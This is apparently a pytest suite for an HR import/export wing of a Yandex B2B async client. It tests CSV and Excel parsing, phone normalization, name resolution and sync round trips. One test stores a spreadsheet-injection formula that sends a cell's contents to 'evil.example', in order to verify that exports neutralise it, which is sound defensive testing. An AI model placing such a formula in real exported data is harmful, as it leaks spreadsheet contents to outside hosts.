"""HR files as they come, read by the library: column maps, encodings, tabs, Excel, phones by
region, names resolved to ids, export and the round trip back through sync, and clearing."""

# ruff: noqa: RUF001  (Cyrillic text is what these files hold)

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from yandex_b2b_async import (
    UNSET,
    B2BClient,
    ColumnMap,
    InputFileError,
    Limit,
    Service,
    UserCreate,
    ValidationError,
    export_users,
    inspect_users_file,
    normalize_phone,
    read_users_csv,
    resolve_file_names,
)
from yandex_b2b_async.hr.names import ResolvedNames
from yandex_b2b_async.hr.rows import file_names
from yandex_b2b_async.sandbox import Sandbox
from yandex_b2b_async.sandbox.state import JSONObject

RUSSIAN_MAP = (
    "fullname=ФИО,phone=Телефон,email=Email,department=Подразделение,cost_center=Центр затрат"
)
RUSSIAN_HEADER = "ФИО;Телефон;Email;Подразделение;Центр затрат;Табельный номер\r\n"


def _names() -> ResolvedNames:
    """The names the offline tests' files give, as resolved for an account with Продажи/Москва,
    Склад and the cost centers Основной and Выездные."""
    return ResolvedNames(
        departments={"Продажи/Москва": "d-sales-msk", "Склад": "d-store"},
        cost_centers={"Основной": "cc-main", "Выездные": "cc-field"},
    )


def _structure(sandbox: Sandbox) -> dict[str, str]:
    """Продажи/Москва, Маркетинг/Москва (an ambiguous name), Склад; the cost center Выездные;
    the limit «Такси 5000». Returns their ids."""
    sales = sandbox.add_department("Продажи")
    marketing = sandbox.add_department("Маркетинг")
    return {
        "sales-msk": sandbox.add_department("Москва", parent_id=sales),
        "mkt-msk": sandbox.add_department("Москва", parent_id=marketing),
        "store": sandbox.add_department("Склад"),
        "field": sandbox.add_cost_center(name="Выездные"),
        "taxi": sandbox.add_limit("Такси 5000", "taxi"),
    }


# --------------------------------------------------------------------------------------------
# Phones


@pytest.mark.parametrize(
    "written",
    [
        "+7 (900) 123-45-67",
        "8 900 123 45 67",
        "89001234567",
        "9001234567",
        "8-900-123-45-67",
        "+79001234567",
        " 7 900 1234567 ",
    ],
)
def test_every_way_a_russian_mobile_is_written_becomes_one_number(written: str) -> None:
    """With region RU, each common spelling of a number normalizes to +79001234567."""
    assert normalize_phone(written, region="RU") == "+79001234567"


@pytest.mark.parametrize(
    "written", ["8-900-123-45-67 (моб.)", "89001234567 моб", "+7 900 123-45-67 (mobile)"]
)
def test_a_note_after_the_number_is_not_part_of_it(written: str) -> None:
    """A word after the number ("(моб.)", as HR files mark a mobile) is left out, as a word
    before it is: the number is read."""
    assert normalize_phone(written, region="RU") == "+79001234567"


def test_an_extension_in_brackets_is_still_an_extension() -> None:
    """Digits after the note keep it a part of the phone: "(доб. 12)" is an extension."""
    with pytest.raises(ValidationError, match="extension"):
        normalize_phone("8 900 123-45-67 (доб. 12)", region="RU")


@pytest.mark.parametrize("written", ["123", "8 900 123", "abc", "8 701 123 4567", "+7 000 000"])
def test_what_is_not_a_phone_of_the_region_is_refused_naming_the_field(written: str) -> None:
    """Too short, letters, another country's number in national form: refused, field named."""
    with pytest.raises(ValidationError) as caught:
        normalize_phone(written, region="RU")
    assert caught.value.field == "phone"
    assert "got" not in str(caught.value)  # the number is not repeated


def test_a_number_written_internationally_keeps_its_country() -> None:
    """A +44 number is valid in a Russian file: it names its own country."""
    assert normalize_phone("+44 20 7946 0958", region="RU") == "+442079460958"


def test_an_extension_is_refused() -> None:
    """The API takes a phone without an extension."""
    with pytest.raises(ValidationError, match="extension"):
        normalize_phone("8 900 123-45-67 доб. 12", region="RU")


def test_an_unknown_region_is_refused() -> None:
    """A region code libphonenumber does not know is a usage error."""
    with pytest.raises(ValidationError) as caught:
        normalize_phone("89001234567", region="XX")
    assert caught.value.field == "phone_region"


# --------------------------------------------------------------------------------------------
# Encodings, separators and maps


def test_a_cp1251_export_with_russian_headers_reads_through_a_column_map(tmp_path: Path) -> None:
    """cp1251, ';', CRLF, Russian headers, national phones: rows become UserCreate; the column
    the map does not name is ignored and listed."""
    path = tmp_path / "staff.csv"
    path.write_bytes(
        (
            RUSSIAN_HEADER
            + "Иванов Илья;8 900 123-45-67;i@example.com;Продажи/Москва;Основной;0012\r\n"
            + "Петрова Анна;+7 (900) 765-43-21;;Склад;Выездные;0013\r\n"
        ).encode("cp1251")
    )
    info = inspect_users_file(path, columns=RUSSIAN_MAP, encoding="cp1251")
    assert info.rows == 2
    assert info.ignored == ("Табельный номер",)
    assert info.uses_names
    rows = list(
        read_users_csv(
            path, columns=RUSSIAN_MAP, encoding="cp1251", phone_region="RU", names=_names()
        )
    )
    assert [row.line for row in rows] == [2, 3]
    assert rows[0].value == UserCreate(
        fullname="Иванов Илья",
        phone="+79001234567",
        email="i@example.com",
        is_active=True,
        cost_centers_id="cc-main",
        department_id="d-sales-msk",
    )
    assert rows[1].value is not None
    assert (rows[1].value.department_id, rows[1].value.cost_centers_id) == ("d-store", "cc-field")


def test_a_cp1251_file_read_as_utf8_is_refused_with_the_encoding_hint(tmp_path: Path) -> None:
    """Without --encoding a Windows-1251 file is refused, and the message says what to pass."""
    path = tmp_path / "staff.csv"
    path.write_bytes(RUSSIAN_HEADER.encode("cp1251"))
    with pytest.raises(InputFileError, match="cp1251") as caught:
        inspect_users_file(path, columns=RUSSIAN_MAP)
    assert caught.value.line == 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_utf16_and_utf8_with_a_byte_order_mark_are_detected(tmp_path: Path, encoding: str) -> None:
    """A byte-order mark decides the encoding without --encoding; line numbers are kept."""
    text = "fullname\tphone\tis_active\tcost_centers_id\n\nИлья\t+79001234567\tда\tcc\n"
    bom = {"utf-16-le": "\ufeff", "utf-16-be": "\ufeff"}.get(encoding, "")
    path = tmp_path / "staff.txt"
    path.write_bytes((bom + text).encode(encoding))
    (row,) = read_users_csv(path)
    assert row.line == 3
    assert row.value is not None, row.error
    assert row.value.fullname == "Илья"


def test_tab_separated_text_is_told_by_its_header(tmp_path: Path) -> None:
    """A header with tabs is read as tab-separated, even when cells hold commas."""
    path = tmp_path / "staff.tsv"
    path.write_text(
        "fullname\tphone\tis_active\tcost_centers_id\nИванов, Илья\t+79001234567\tда\tcc\n",
        encoding="utf-8",
    )
    (row,) = read_users_csv(path)
    assert row.value is not None
    assert row.value.fullname == "Иванов, Илья"


def test_a_map_naming_a_column_the_file_lacks_refuses_the_file(tmp_path: Path) -> None:
    """A mapped header that is not in the file is named, with the headers the file has."""
    path = tmp_path / "staff.csv"
    path.write_text("ФИО,Мобильный\nA,89001234567\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="'Телефон'") as caught:
        read_users_csv(path, columns="fullname=ФИО,phone=Телефон,cost_centers_id=ЦЗ")
    assert "Мобильный" in str(caught.value)


def test_headers_match_ignoring_case_and_spaces(tmp_path: Path) -> None:
    """' ЦЕНТР  затрат ' in the file matches 'Центр затрат' in the map."""
    path = tmp_path / "staff.csv"
    path.write_text("фио, ЦЕНТР  затрат ,телефон\nA,cc-1,+79001234567\n", encoding="utf-8")
    (row,) = read_users_csv(path, columns="fullname=ФИО,phone=Телефон,cost_centers_id=Центр затрат")
    assert row.value is not None
    assert row.value.cost_centers_id == "cc-1"


def test_a_mapping_file_holds_the_layout_of_a_monthly_export(tmp_path: Path) -> None:
    """A TOML mapping file gives columns, defaults, encoding and phone region at once."""
    layout = tmp_path / "1c.toml"
    layout.write_text(
        '# the 1C export\nencoding = "cp1251"\nphone_region = "RU"\n\n[columns]\n'
        'fullname = "ФИО"\nphone = "Телефон"\n\n[defaults]\ncost_centers_id = "cc-main"\n'
        "is_active = false\n",
        encoding="utf-8",
    )
    path = tmp_path / "staff.csv"
    path.write_bytes("ФИО;Телефон;Должность\r\nИванов;89001234567;Инженер\r\n".encode("cp1251"))
    (row,) = read_users_csv(path, columns=ColumnMap.load(layout))
    assert row.value == UserCreate(
        fullname="Иванов", phone="+79001234567", is_active=False, cost_centers_id="cc-main"
    )


@pytest.mark.parametrize(
    ("spec", "named"),
    [
        ("fullname", "field=Header"),
        ("name=ФИО", "unknown field 'name'"),
        ("phone=A,phone=B", "twice"),
        ("phone=A,fullname=a", "both name"),
    ],
)
def test_a_malformed_column_map_is_refused(spec: str, named: str) -> None:
    """A map entry without '=', an unknown field, a field twice, a header twice: refused."""
    with pytest.raises(ValidationError, match=named):
        ColumnMap.parse(spec)


def test_a_missing_cost_center_says_how_to_give_one(tmp_path: Path) -> None:
    """A map without a cost center column is refused with the two ways to give one: a column
    (cost_center=Header, by name) or the same for every row in a mapping file's [defaults]."""
    path = tmp_path / "staff.csv"
    path.write_text("ФИО;Телефон\nИванов;+79001234567\n", encoding="utf-8")
    with pytest.raises(InputFileError) as caught:
        read_users_csv(path, columns="fullname=ФИО,phone=Телефон")
    message = str(caught.value)
    assert "cost_center=" in message
    assert "mapping file" in message
    assert "[defaults]" in message


def test_without_a_map_is_active_stays_required(tmp_path: Path) -> None:
    """A file of API field names still needs is_active; with a map it defaults to true."""
    path = tmp_path / "staff.csv"
    path.write_text("fullname,phone,cost_centers_id\nA,+79001234567,cc\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="is_active"):
        read_users_csv(path)
    (row,) = read_users_csv(path, columns="fullname=fullname")
    assert row.value is not None
    assert row.value.is_active is True


def test_a_bad_phone_is_a_row_error_naming_the_row(tmp_path: Path) -> None:
    """With a region, a phone that is not valid there fails its row only, with its line."""
    path = tmp_path / "staff.csv"
    path.write_text(
        "fullname,phone,is_active,cost_centers_id\nA,89001234567,1,cc\nB,8900,1,cc\n",
        encoding="utf-8",
    )
    good, bad = read_users_csv(path, phone_region="ru")
    assert good.value is not None
    assert (bad.line, bad.error and bad.error.field) == (3, "phone")


def test_a_national_phone_without_a_region_says_how_to_read_it(tmp_path: Path) -> None:
    """Without phone_region, 8 900 … fails its row, pointing to --phone-region, not quoting it."""
    path = tmp_path / "staff.csv"
    path.write_text(
        "fullname,phone,is_active,cost_centers_id\nA,8 911 765-43-21,1,cc\n", encoding="utf-8"
    )
    (row,) = read_users_csv(path)
    assert row.error is not None
    assert row.error.field == "phone"
    assert "--phone-region" in str(row.error)
    assert "765-43-21" not in str(row.error)


# --------------------------------------------------------------------------------------------
# Excel


def _workbook(path: Path, rows: list[list[object]], *, sheet: str = "Лист1") -> None:
    workbook = openpyxl.Workbook()
    first = workbook.active
    assert first is not None
    first.title = "Сводка"
    first.append(["not", "the", "staff"])
    staff = workbook.create_sheet(sheet)
    for row in rows:
        staff.append(row)
    workbook.save(path)


def test_an_xlsx_sheet_reads_with_excel_row_numbers(tmp_path: Path) -> None:
    """--sheet picks the sheet; a blank row keeps the numbering; a phone typed as a number and a
    boolean cell read as text."""
    path = tmp_path / "staff.xlsx"
    _workbook(
        path,
        [
            ["ФИО", "Телефон", "Активен", "Центр затрат"],
            ["Иванов Илья", 89001234567, True, "Основной"],
            [None, None, None, None],
            ["Петрова Анна", "8 900 765 43 21", "ЛОЖЬ", "Выездные"],
        ],
    )
    rows = list(
        read_users_csv(
            path,
            sheet="Лист1",
            columns="fullname=ФИО,phone=Телефон,is_active=Активен,cost_center=Центр затрат",
            phone_region="RU",
            names=_names(),
        )
    )
    assert [row.line for row in rows] == [2, 4]
    assert rows[0].value is not None, rows[0].error
    assert (rows[0].value.phone, rows[0].value.is_active) == ("+79001234567", True)
    assert rows[1].value is not None, rows[1].error
    assert (rows[1].value.is_active, rows[1].value.cost_centers_id) == (False, "cc-field")


def test_an_unknown_sheet_is_refused_naming_the_sheets(tmp_path: Path) -> None:
    """--sheet with a name the workbook lacks lists the sheets it has."""
    path = tmp_path / "staff.xlsx"
    _workbook(path, [["fullname"]])
    with pytest.raises(InputFileError, match="Сводка, Лист1"):
        inspect_users_file(path, sheet="Staff")


def test_an_old_excel_workbook_is_refused_saying_what_to_save_it_as(tmp_path: Path) -> None:
    """A .xls file is not misread as text: refused, asking for .xlsx or CSV."""
    path = tmp_path / "staff.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    with pytest.raises(InputFileError, match=r"save it as \.xlsx or as CSV"):
        inspect_users_file(path)


def test_a_file_named_xlsx_that_is_not_a_workbook_is_refused(tmp_path: Path) -> None:
    """A CSV saved as .xlsx is refused as a file, not a crash."""
    path = tmp_path / "staff.xlsx"
    path.write_text("fullname,phone\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="not an Excel workbook"):
        inspect_users_file(path)


# --------------------------------------------------------------------------------------------
# Names


async def test_names_resolve_through_the_list_calls_or_fail_their_rows(
    b2b_sandbox: Sandbox, tmp_path: Path
) -> None:
    """A unique name, a path, a cost center and a limit title resolve; an unknown name, an
    ambiguous one (listing the candidates) and an unknown cost center fail only their rows."""
    ids = _structure(b2b_sandbox)
    path = tmp_path / "staff.csv"
    path.write_text(
        "fullname,phone,is_active,department,cost_center,limits\n"
        "A,+79001234561,1,Склад,Выездные,taxi:Такси 5000\n"
        "B,+79001234562,1,Продажи/Москва,Main cost center,taxi:lim-by-id\n"
        "C,+79001234563,1,Бухгалтерия,Выездные,\n"
        "D,+79001234564,1,Москва,Выездные,\n"
        "E,+79001234565,1,Склад,Нет такого,\n",
        encoding="utf-8",
    )
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        names = await resolve_file_names(client, path)
    a, b, c, d, e = read_users_csv(path, names=names)
    assert a.value is not None, a.error
    assert (a.value.department_id, a.value.cost_centers_id) == (ids["store"], ids["field"])
    assert a.value.limits == (Limit(ids["taxi"], Service.TAXI),)
    assert b.value is not None, b.error
    assert b.value.department_id == ids["sales-msk"]
    assert b.value.limits == (Limit("lim-by-id", Service.TAXI),)
    assert c.error is not None
    assert (c.error.field, "Бухгалтерия" in str(c.error)) == ("department", True)
    assert d.error is not None
    assert "Продажи/Москва" in str(d.error)
    assert "Маркетинг/Москва" in str(d.error)
    assert e.error is not None
    assert e.error.field == "cost_center"


def test_a_names_file_without_names_is_refused_before_any_row(tmp_path: Path) -> None:
    """Names need resolving: read_users_csv without names= refuses the file."""
    path = tmp_path / "staff.csv"
    path.write_text("fullname,phone,is_active,cost_center\nA,+79001234567,1,X\n", "utf-8")
    with pytest.raises(InputFileError, match="names="):
        read_users_csv(path)


async def test_missing_departments_are_created_parents_first_once_each(
    b2b_sandbox: Sandbox, tmp_path: Path
) -> None:
    """Rows naming overlapping missing paths, resolved concurrently, create each department
    once, under the part of its path that exists."""
    sales = b2b_sandbox.add_department("Продажи")
    wanted = ["Продажи/Москва/Север", "Продажи/Москва", "Логистика/Склад", "Продажи", "Логистика"]
    path = tmp_path / "staff.csv"
    path.write_text(
        "fullname,phone,is_active,department,cost_center\n"
        + "".join(f"U{n},+7900123{n:04d},1,{wanted[n % 5]},Main cost center\n" for n in range(50)),
        encoding="utf-8",
    )
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        names = await resolve_file_names(client, path, create_departments=True)
    made = {(str(d["name"]), d["parent_id"]) for d in b2b_sandbox.departments()}
    assert len(made) == len(b2b_sandbox.departments()) == 5
    assert ("Москва", sales) in made
    rows = list(read_users_csv(path, names=names))
    assert all(row.ok for row in rows)
    assert len({row.value.department_id for row in rows if row.value}) == 5


# --------------------------------------------------------------------------------------------
# Export, the round trip and clearing


def _text(user: JSONObject, field: str) -> str:
    value = user[field]
    assert isinstance(value, str)
    return value


def _seed(sandbox: Sandbox) -> None:
    sales = sandbox.add_department("Продажи")
    msk = sandbox.add_department("Москва", parent_id=sales)
    field = sandbox.add_cost_center(name="Выездные")
    sandbox.add_user(
        phone="+79001234567",
        fullname="Иванов Илья",
        email="i@example.com",
        nickname="ivanov",
        department_id=msk,
        limits=[("taxi", "lim-1")],
    )
    sandbox.add_user(
        phone="+79001234568", fullname="Петрова Анна", cost_centers_id=field, is_active=False
    )
    sandbox.add_user(phone="+79001234569", fullname="Архив", is_deleted=True)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_export_then_sync_changes_nothing(
    b2b_sandbox: Sandbox, tmp_path: Path, suffix: str
) -> None:
    """An exported file read back plans no action, and holds every field of every active
    employee as it is in the account."""
    _seed(b2b_sandbox)
    path = tmp_path / f"export{suffix}"
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        assert await export_users(client, path) == 2
        rows = list(read_users_csv(path, names=await resolve_file_names(client, path)))
        assert all(row.ok for row in rows), [row.error for row in rows]
        plan = await client.users.plan_sync([row.value for row in rows if row.value])
    assert not plan, plan.describe()
    assert plan.unchanged == 2
    by_phone = {user["phone"]: user for user in b2b_sandbox.users()}
    for row in rows:
        assert row.value is not None
        current = by_phone[row.value.phone]
        assert row.value.fullname == current["fullname"]
        assert row.value.is_active == current["is_active"]
        assert row.value.cost_centers_id == current["cost_centers_id"]
        assert row.value.department_id == current.get("department_id", UNSET)
        assert (row.value.email or None) == current.get("email")
        assert (row.value.nickname or None) == current.get("nickname")
        limits = current["limits"]
        assert isinstance(limits, list)
        written = row.value.limits if row.value.limits is not UNSET else ()
        assert [(lim.service.value, lim.limit_id) for lim in written] == [
            (lim["service"], lim["limit_id"]) for lim in limits if isinstance(lim, dict)
        ]


async def test_an_xlsx_export_keeps_every_cell_as_text(
    b2b_sandbox: Sandbox, tmp_path: Path
) -> None:
    """A name that starts with '=' is exported as text, not as a formula, and reads back."""
    b2b_sandbox.add_user(phone="+79001234567", fullname="=HYPERLINK(1)")
    path = tmp_path / "export.xlsx"
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        await export_users(client, path)
        names = await resolve_file_names(client, path)
    workbook = openpyxl.load_workbook(path)
    cell = workbook.worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == ("=HYPERLINK(1)", "s")
    (row,) = read_users_csv(path, names=names)
    assert row.value is not None
    assert row.value.fullname == "=HYPERLINK(1)"


async def test_sync_clears_only_the_fields_it_is_told_to(b2b_sandbox: Sandbox) -> None:
    """With clear=, empty email, nickname, department and limits are removed; without it the
    same record changes nothing."""
    _seed(b2b_sandbox)
    (ivanov,) = [u for u in b2b_sandbox.users() if u["phone"] == "+79001234567"]
    bare = UserCreate(
        fullname="Иванов Илья",
        phone="+79001234567",
        is_active=True,
        cost_centers_id=_text(ivanov, "cost_centers_id"),
    )
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        assert not await client.users.plan_sync([bare])
        plan = await client.users.plan_sync(
            [bare], clear=["email", "nickname", "department_id", "limits"]
        )
        (update,) = plan.updates
        assert {change.field for change in update.changes} == {
            "email",
            "nickname",
            "department_id",
            "limits",
        }
        report = await client.users.apply(plan)
    assert not report.failed
    after = b2b_sandbox.user(_text(ivanov, "id"))
    assert "email" not in after
    assert "department_id" not in after
    assert after.get("nickname") in (None, "")
    assert after["limits"] == []
    assert after["cost_centers_id"] == ivanov["cost_centers_id"]


async def test_clearing_the_nickname_alone_is_a_patch(b2b_sandbox: Sandbox) -> None:
    """Only the email and department need a PUT; a nickname clears by PATCH with ''."""
    _seed(b2b_sandbox)
    (ivanov,) = [u for u in b2b_sandbox.users() if u["phone"] == "+79001234567"]
    wanted = UserCreate(
        fullname="Иванов Илья",
        phone="+79001234567",
        is_active=True,
        cost_centers_id=_text(ivanov, "cost_centers_id"),
        email="i@example.com",
        department_id=_text(ivanov, "department_id"),
        limits=(Limit("lim-1", Service.TAXI),),
    )
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        plan = await client.users.plan_sync([wanted], clear=["nickname", "email"])
    (update,) = plan.updates
    assert update.replace is None
    assert update.patch.nickname == ""


def test_a_field_that_cannot_be_cleared_is_refused() -> None:
    """clear= takes email, nickname, department_id and limits only."""
    from yandex_b2b_async.hr.sync import build_plan

    with pytest.raises(ValidationError, match="cannot be cleared"):
        build_plan([], [], clear=["phone"])


# --------------------------------------------------------------------------------------------
# A file's names, resolved once


def test_a_files_names_are_collected_once_each(tmp_path: Path) -> None:
    """file_names lists each department, cost center and limit of the file once, in order."""
    path = tmp_path / "staff.csv"
    path.write_text(
        "ФИО,Телефон,Отдел,ЦЗ,Лимиты\n"
        "A,+79001234567,Склад,Основной,taxi:Такси 5000\n"
        "B,+79001234568,Склад,Выездные,taxi:Такси 5000;eats2:lim-e\n",
        encoding="utf-8",
    )
    names = file_names(
        path, columns="fullname=ФИО,phone=Телефон,department=Отдел,cost_center=ЦЗ,limits=Лимиты"
    )
    assert names.departments == ("Склад",)
    assert names.cost_centers == ("Основной", "Выездные")
    assert names.limits == (("taxi", "Такси 5000"), ("eats2", "lim-e"))


def test_resolved_names_answer_each_row_with_the_id_or_the_error(tmp_path: Path) -> None:
    """Names resolved beforehand give each row its ids; an unknown one fails only its rows."""
    path = tmp_path / "staff.csv"
    path.write_text(
        "fullname,phone,is_active,department,cost_center,limits\n"
        "A,+79001234567,1,Продажи/Москва,Основной,taxi:Такси 5000\n"
        "B,+79001234568,1,Бухгалтерия,Основной,\n",
        encoding="utf-8",
    )
    resolved = ResolvedNames(
        departments={
            "Продажи/Москва": "d-sales-msk",
            "Бухгалтерия": ValidationError("department", "no such"),
        },
        cost_centers={"Основной": "cc-main"},
        limits={("taxi", "Такси 5000"): "lim-taxi"},
    )
    good, bad = read_users_csv(path, names=resolved)
    assert good.value is not None
    assert good.value.department_id == "d-sales-msk"
    assert good.value.limits == (Limit("lim-taxi", Service.TAXI),)
    assert (bad.line, bad.error and bad.error.field) == (3, "department")


def test_a_10000_row_export_reads_every_row_with_its_line(tmp_path: Path) -> None:
    """10,000 rows of a cp1251 export with names and national phones: every row valid, each
    numbered by its line."""
    path = tmp_path / "big.csv"
    with path.open("w", encoding="cp1251", newline="") as file:
        file.write(RUSSIAN_HEADER)
        for n in range(10_000):
            file.write(
                f"Сотрудник {n};8 (900) {n // 10000:03d}-{n % 10000:04d};;Склад;Основной;{n}\r\n"
            )
    rows = read_users_csv(
        path, columns=RUSSIAN_MAP, encoding="cp1251", phone_region="RU", names=_names()
    )
    lines = []
    for row in rows:
        assert row.value is not None, (row.line, row.error)
        lines.append(row.line)
    assert lines == list(range(2, 10_002))


async def test_an_export_falls_back_to_ids_where_a_name_would_not_read_back(
    b2b_sandbox: Sandbox, tmp_path: Path
) -> None:
    """Two cost centers named alike are exported by id, in a column added for them; a '/' in a
    department's name is escaped; the file still syncs to nothing."""
    twin = b2b_sandbox.add_cost_center(name="Общий")
    b2b_sandbox.add_cost_center(name="Общий")
    odd = b2b_sandbox.add_department("Отдел 1/2")
    b2b_sandbox.add_user(phone="+79001234567", cost_centers_id=twin, department_id=odd)
    path = tmp_path / "export.csv"
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        await export_users(client, path)
        header, row = path.read_text(encoding="utf-8-sig").splitlines()
        assert header.split(",")[-1] == "cost_centers_id"
        assert "Отдел 1\\/2" in row
        rows = list(read_users_csv(path, names=await resolve_file_names(client, path)))
        assert rows[0].value is not None, rows[0].error
        assert (rows[0].value.cost_centers_id, rows[0].value.department_id) == (twin, odd)
        assert not await client.users.plan_sync([rows[0].value])


async def test_an_exported_name_a_spreadsheet_would_run_is_written_as_text(
    b2b_sandbox: Sandbox, tmp_path: Path
) -> None:
    """A name typed as a formula is exported with Excel's text apostrophe (no CSV injection)
    and reads back as the name it is, so export then sync still changes nothing."""
    formula = '=HYPERLINK("http://evil.example/?"&A1;"x")'
    b2b_sandbox.add_user(
        phone="+79001234567", fullname=formula, cost_centers_id=b2b_sandbox.cost_center_id
    )
    path = tmp_path / "export.csv"
    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
        await export_users(client, path)
        written = path.read_text(encoding="utf-8-sig")
        rows = list(read_users_csv(path, names=await resolve_file_names(client, path)))
        plan = await client.users.plan_sync([row.value for row in rows if row.value])
    assert "'=HYPERLINK" in written
    assert "+79001234567" in written
    assert [row.value.fullname for row in rows if row.value] == [formula]
    assert not plan, plan.describe()


@given(st.text(max_size=12))
def test_a_guarded_cell_reads_back_as_it_was(text: str) -> None:
    """Any text survives the formula guard and the reader's removal of it unchanged."""
    from yandex_b2b_async.hr.tables import _unguarded, spreadsheet_text

    assert _unguarded(spreadsheet_text(text)) == text
    if not text.startswith("'"):
        assert _unguarded(text) == text


def test_the_packages_lazy_hr_names_are_the_hr_wings_public_names() -> None:
    """Every public name of the HR wing is importable from the package, and nothing else is
    loaded lazily: the package's list and ``hr.__all__`` are one set."""
    import yandex_b2b_async
    import yandex_b2b_async.hr

    assert set(yandex_b2b_async._HR_NAMES) == set(yandex_b2b_async.hr.__all__)
    assert set(yandex_b2b_async.hr.__all__) <= set(yandex_b2b_async.__all__)
